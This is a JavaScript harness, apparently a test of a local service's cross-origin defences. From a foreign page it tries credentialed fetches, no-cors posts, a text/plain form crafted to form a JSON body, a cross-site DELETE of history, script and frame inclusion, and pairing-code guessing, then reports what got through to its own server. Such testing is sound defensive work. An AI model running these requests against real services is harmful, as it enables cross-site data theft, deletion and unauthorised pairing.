"use strict";
// Run on another site. Each attack says "got in" with what it got, or how it was stopped; the page's own server is told.
const target = new URLSearchParams(location.search).get("target");
const results = {};

/** A promise that is not waited for longer than two seconds. */
const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done("nothing happened"), 2000))]);

async function attack(name, act) {
  try {
    results[name] = String(await soon(act()));
  } catch (error) {
    results[name] = `stopped: ${error.name}`;
  }
}

const read = async (answer) => (answer.type === "opaque" ? `opaque ${answer.status}` : `got in: ${await answer.text()}`);
const page = JSON.stringify({ text: "Read this for me." });

/** Load an element and say whether it loaded. */
const element = (tag, set) => () =>
  new Promise((done) => {
    const made = document.createElement(tag);
    made.onload = () => done("got in: loaded");
    made.onerror = () => done("stopped: error");
    Object.assign(made, set);
    document.body.append(made);
  });

/** Send a form into a frame, which is looked into afterwards. */
const form = (path, type, fields) => () =>
  new Promise((done) => {
    const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` }));
    const made = Object.assign(document.createElement("form"), { method: "post", action: target + path, enctype: type, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(made);
    frame.onload = () => {
      try {
        done(`got in: ${frame.contentDocument.body.innerText}`);
      } catch (error) {
        done(`stopped: ${error.name}`);
      }
    };
    made.submit();
  });

(async () => {
  await attack("control: own server", async () => read(await fetch("/own")));
  await attack("fetch json", async () => read(await fetch(`${target}/v1/readings`, { method: "POST", body: page, headers: { "Content-Type": "application/json" } })));
  await attack("fetch text", async () => read(await fetch(`${target}/v1/readings`, { method: "POST", body: page })));
  await attack("fetch text no-cors", async () => read(await fetch(`${target}/v1/readings`, { method: "POST", body: page, mode: "no-cors" })));
  await attack("fetch with credentials", async () => read(await fetch(`${target}/v1/history`, { credentials: "include" })));
  await attack("fetch with a token", async () => read(await fetch(`${target}/v1/history`, { headers: { Authorization: "Bearer x" } })));
  await attack("fetch health", async () => read(await fetch(`${target}/health`)));
  await attack("fetch delete", async () => read(await fetch(`${target}/v1/history`, { method: "DELETE" })));
  await attack("form text", form("/v1/readings", "text/plain", { '{"text": "Read this.", "x': '": 1}' }));
  await attack("form urlencoded", form("/v1/readings", "application/x-www-form-urlencoded", { text: "Read this." }));
  await attack("form multipart", form("/v1/pair", "multipart/form-data", { code: "AAAAAAAA" }));
  await attack("image", element("img", { src: `${target}/health` }));
  await attack("script", element("script", { src: `${target}/static/demo.js` }));
  await attack("module", element("script", { src: `${target}/panel/render.js`, type: "module" }));
  await attack("json script", element("script", { src: `${target}/v1/models` }));
  await attack("style", element("link", { rel: "stylesheet", href: `${target}/panel/panel.css` }));
  await attack("websocket", () => new Promise((done) => {
    const socket = new WebSocket(`${target.replace("http", "ws")}/v1/readings`);
    socket.onopen = () => done("got in: open");
    socket.onerror = () => done("stopped: error");
  }));
  await attack("event source", () => new Promise((done) => {
    const source = new EventSource(`${target}/v1/readings/x`);
    source.onopen = () => done("got in: open");
    source.onerror = () => (source.close(), done("stopped: error"));
  }));
  await attack("beacon", async () => (navigator.sendBeacon(`${target}/v1/readings`, page), "sent blindly"));
  await attack("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try {
        done(`got in: ${frame.contentDocument.title}`);
      } catch (error) {
        done(`stopped: ${error.name}`);
      }
    };
    frame.src = `${target}/`;
    document.body.append(frame);
  }));
  await attack("guess codes", async () => {
    for (let n = 0; n < 12; n += 1) {
      const body = JSON.stringify({ code: "AAAAAAA" + n });
      await fetch(`${target}/v1/pair`, { method: "POST", body, mode: "no-cors" }).catch(() => 0);
      await fetch(`${target}/v1/pair`, { method: "POST", body, headers: { "Content-Type": "application/json" } }).catch(() => 0);
    }
    return "sent blindly";
  });
  await fetch("/result", { method: "POST", body: JSON.stringify(results) });
})();
